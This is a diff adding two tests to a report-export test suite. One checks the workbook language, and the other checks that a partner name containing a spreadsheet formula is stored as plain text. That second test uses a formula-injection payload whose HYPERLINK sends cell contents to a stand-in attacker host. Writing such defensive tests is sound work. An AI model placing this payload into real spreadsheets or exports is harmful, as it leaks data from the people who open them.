@@ -112,3 +112,31 @@ def test_council_report_printable_page_is_standalone(viewer_client, engagements)
     assert html.startswith("<!DOCTYPE html>")
     assert "International strategy: council report" in html
     assert "wagtailadmin" not in html.split("<main>")[0]
+
+
+def test_council_report_xlsx_labels_its_rows_in_the_workbooks_language_not_the_pages(viewer_client, engagements):
+    # The page is in Japanese; the workbook asked for is English.
+    response = viewer_client.get(
+        URL, {"first_year": 2026, "last_year": 2026, "export": "xlsx", "lang": "en"}, HTTP_ACCEPT_LANGUAGE="ja"
+    )
+
+    workbook = load_workbook(io.BytesIO(response.content))
+    by_year = workbook["By fiscal year"]
+    assert [row[0] for row in by_year.iter_rows(min_row=5, max_col=1, values_only=True)][:2] == [
+        "FY2026 (令和8年度)",
+        "Total",
+    ]
+    assert [cell.value for cell in workbook["By country"][5]][:3] == ["Viet Nam", None, 1]
+
+
+def test_council_report_xlsx_writes_a_partners_name_as_text_never_a_formula(viewer_client):
+    from tests.factories.partners import OrganizationFactory
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    engagement = EngagementFactory(starts_at=datetime.datetime(2026, 5, 1, 9, tzinfo=TOKYO))
+    engagement.organizations.set([OrganizationFactory(name=formula)])
+
+    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026, "export": "xlsx", "lang": "en"})
+
+    by_partner = load_workbook(io.BytesIO(response.content))["By partner"]
+    assert (by_partner["A5"].value, by_partner["A5"].data_type) == (formula, "s")
